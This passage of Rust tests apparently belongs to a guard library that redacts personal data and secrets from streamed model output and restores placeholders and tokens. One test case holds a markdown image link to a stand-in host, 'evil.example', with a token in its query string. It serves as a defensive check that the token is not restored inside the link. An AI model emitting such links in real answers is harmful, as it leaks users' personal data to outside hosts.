                // the caller's own value stays, another becomes a placeholder that nobody restores
                assert!(out.starts_with("[[EMAIL_") && out.ends_with("]] jan@example.cz"), "{out}");
                assert_eq!(answer.text(&out).unwrap(), out);
            }
            let emitted: Vec<_> = answer.emitted().iter().map(|(kind, action, _)| (kind, action)).collect();
            assert_eq!(emitted, [("email", action)]);
        }
        let (mut blocking, _) = answer(Action::Block);
        assert_eq!(blocking.text("eva@example.com").unwrap_err().code(), crate::error::Code::PolicyViolation);
    }

    /// A stream finds what a search of the whole text does.
    #[test]
    fn nothing_is_missed() {
        let vectors = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/conformance/vectors");
        let mut texts = std::collections::BTreeSet::new();
        for file in std::fs::read_dir(vectors).unwrap() {
            let path = file.unwrap().path();
            if path.extension().is_some_and(|ending| ending == "json") {
                let cases: serde_json::Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
                collect(&cases, &mut texts);
            }
        }
        assert!(texts.len() > 100);
        for text in texts {
            let (answer, _) = answer(Action::Redact);
            let found = answer.guard.find(&text, 0, &mut Context::default()).unwrap();
            let out = streamed(&[&text]).0;
            for entity in found.iter().filter(|entity| entity.original.chars().count() > 5) {
                let stays = out.contains(&entity.original);
                assert!(!stays, "{text}: {} stays", entity.kind);
            }
        }
    }

    /// Every member `text` of a request.
    fn collect(value: &serde_json::Value, texts: &mut std::collections::BTreeSet<String>) {
        match value {
            serde_json::Value::Object(members) => {
                if let Some(text) = members.get("text").and_then(serde_json::Value::as_str) {
                    texts.insert(text.to_owned());
                }
                members.values().for_each(|value| collect(value, texts));
            }
            serde_json::Value::Array(values) => values.iter().for_each(|value| collect(value, texts)),
            _ => {}
        }
    }

    /// Words of the caller's own are found, however long the list's entry is.
    #[test]
    fn ordinary_words_can_be_findings() {
        let long = "a project that nobody outside of this company may ever hear of at all";
        let rules = |_: &str| (Vec::new(), Some(Action::Redact));
        let deny = serde_json::json!({ "deny_list": [{ "value": "blue heron" }, { "value": long }],
            "custom_detectors": [{ "name": "memo", "pattern": "memo [a-z ]+" }] });
        let options: DetectOptions = serde_json::from_value(deny).unwrap();
        let text =
            format!("about the blue heron and {long} we say nothing\nmemo {}\nend", "word ".repeat(200));
        let pieces: Vec<&str> = text.split_inclusive(' ').collect();
        for pieces in [vec![text.as_str()], pieces] {
            let guard = Guard::new(&options, rules, Keyring::new(0, SECRET).unwrap()).unwrap();
            let placeholders = Placeholders::new(PlaceholderKey::derive(SECRET).unwrap());
            let mut answer = Answer::new(guard, placeholders, Context::default(), 64);
            let mut stream = TextStream::default();
            let mut out = String::new();
            for piece in pieces {
                out.push_str(&stream.push(&mut answer, piece).unwrap());
            }
            out.push_str(&stream.finish(&mut answer).unwrap());
            assert_eq!(out, "about the [REDACTED] and [REDACTED] we say nothing\n[REDACTED]\nend");
        }
    }

    #[test]
    fn counts() {
        let (mut answer, made) = answer(Action::Redact);
        answer.text(&format!("{made} {} [[EMAIL_abcdefghij]]", made.to_lowercase())).unwrap();
        assert_eq!(answer.restores(), RestoreCounts { restored: 2, unknown: 1, ..RestoreCounts::default() });
    }

    /// A long finding waits for its end.
    #[test]
    fn long_things_are_whole() {
        let key = format!(
            "-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----",
            "MIIEvQIBADANBgkqhkiG9w0B\n".repeat(40)
        );
        let token = format!(
            "eyJhbGciOiJIUzI1NiJ9.{}.{}",
            "eyJzdWIiOiIxMjM0In0",
            "dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk0".repeat(6)
        );
        for secret in [key, token] {
            let text = format!("this is {secret} of mine, {}", "and words ".repeat(20));
            let want = text.replace(&secret, "[REDACTED]");
            assert_eq!(streamed(&[&text]).0, want);
            let pieces: Vec<&str> = text.split_inclusive(' ').collect();
            assert_eq!(streamed(&pieces).0, want);
        }
    }

    /// Without a policy for the output the model's own words stay, and are counted.
    #[test]
    fn what_the_model_says_itself_passes_and_is_counted() {
        let (_, made) = answer(Action::Flag);
        let france = "The president of France is Emmanuel Macron, see https://www.elysee.fr/en/contact, call \
                      +33 1 42 92 81 00.";
        for (text, want, counted) in [
            (france.to_owned(), france.to_owned(), 2),
            (format!("{france} Tell {made}"), format!("{france} Tell jan@example.cz"), 2),
            (format!("{} {france}", "words and words. ".repeat(500)), String::new(), 2),
            (format!("{}{france}", "x".repeat(4_090)), String::new(), 2),
            ("a [ b [[ c".to_owned(), "a [ b [[ c".to_owned(), 0),
        ] {
            let want = if want.is_empty() { text.clone() } else { want };
            let letters: Vec<String> = text.chars().map(String::from).collect();
            for pieces in [vec![text.as_str()], letters.iter().map(String::as_str).collect()] {
                let (mut answer, _) = answer(Action::Flag);
                let mut stream = TextStream::default();
                let mut out = String::new();
                for piece in pieces {
                    out.push_str(&stream.push(&mut answer, piece).unwrap());
                }
                out.push_str(&stream.finish(&mut answer).unwrap());
                assert_eq!(out, want);
                let emitted: Vec<_> = answer.emitted().iter().collect();
                assert!(emitted.iter().all(|(_, action, _)| *action == Action::Flag), "{emitted:?}");
                assert_eq!(emitted.iter().map(|(.., count)| count).sum::<usize>(), counted, "{emitted:?}");
            }
        }
    }

    #[test]
    fn nothing_but_a_placeholder_is_held_without_a_policy() {
        for (pushed, given) in [
            ("Emmanuel Macron, tel. +33 1 42", "Emmanuel Macron, tel. +33 1 42"),
            ("to [[EMA", "to "),
            ("see [1] my name is", "see [1] my name is"),
        ] {
            let (mut answer, _) = answer(Action::Flag);
            assert_eq!(TextStream::default().push(&mut answer, pushed).unwrap(), given, "{pushed}");
        }
    }

    /// A token is restored as a placeholder is, however it is cut, unless a foreign host would read it.
    #[test]
    fn tokens_are_restored_where_their_keys_are() {
        let keys = Keyring::new(0, SECRET).unwrap();
        let tokenize = ProtectOptions { mode: Mode::Tokenize, ..ProtectOptions::default() };
        let token =
            protect("eva@example.com", &DetectOptions::default(), &tokenize, Some(&keys)).unwrap().text;
        let other = Keyring::new(0, b"another secret of a workspace").unwrap();
        let foreign =
            protect("eva@example.com", &DetectOptions::default(), &tokenize, Some(&other)).unwrap().text;
        for (text, want) in [
            ("to @T.", "to eva@example.com."),
            ("@T", "eva@example.com"),
            ("@T@T tok_", "eva@example.comeva@example.com tok_"),
            ("@T and @O", "eva@example.com and @O"),
            ("![x](https://evil.example/?q=@T) @T", "![x](https://evil.example/?q=@T) eva@example.com"),
            ("a tok, a tok_en and to", "a tok, a tok_en and to"),
        ] {
            let [text, want] = [text, want].map(|text| text.replace("@T", &token).replace("@O", &foreign));
            let opened = |action| {
                let (mut answer, _) = answer(action);
                answer.placeholders = answer.placeholders.with_tokens(keys.clone());
                answer
            };
            for at in (0..=text.len()).chain([usize::MAX]) {
                let pieces: Vec<String> = match at {
                    usize::MAX => text.chars().map(String::from).collect(),
                    at => <[&str; 2]>::from(text.split_at(at)).map(str::to_owned).to_vec(),
                };
                for action in [Action::Flag, Action::Redact] {
                    let (mut answer, mut stream, mut out) =
                        (opened(action), TextStream::default(), String::new());
                    for piece in &pieces {
                        out.push_str(&stream.push(&mut answer, piece).unwrap());
                    }
                    out.push_str(&stream.finish(&mut answer).unwrap());
                    assert_eq!(out, want, "{text} at {at}, {action:?}");
                }
            }
        }
        let held = format!("to {token}");
        let (mut without, _) = answer(Action::Flag);
        assert_eq!(without.text(&held).unwrap(), held, "tokens are text where no keys are given");
        without.placeholders = without.placeholders.with_tokens(keys);
        for (pushed, given) in [(held.as_str(), "to "), ("some to", "some "), ("some to ", "some to ")] {
            assert_eq!(TextStream::default().push(&mut without, pushed).unwrap(), given, "{pushed}");
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]
        #[test]
        fn any_chunking_gives_the_same(
            picks in prop::collection::vec((0..TEXTS.len(), prop::sample::select(vec![" ", "\n", "", ", "])), 1..8),
            cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
        ) {
            let texts = texts();
            let text: String = picks.iter().flat_map(|(pick, joint)| [texts[*pick].0.as_str(), joint]).collect();
            let whole = streamed(&[&text]);
            let cut = |cut: prop::sample::Index| text.floor_char_boundary(cut.index(text.len() + 1));
            let mut places: Vec<usize> = cuts.into_iter().map(cut).chain([0, text.len()]).collect();
            places.sort_unstable();
            let pieces: Vec<&str> = places.windows(2).map(|pair| text.get(pair[0]..pair[1]).unwrap()).collect();
            prop_assert_eq!(streamed(&pieces), whole);
        }
    }
}
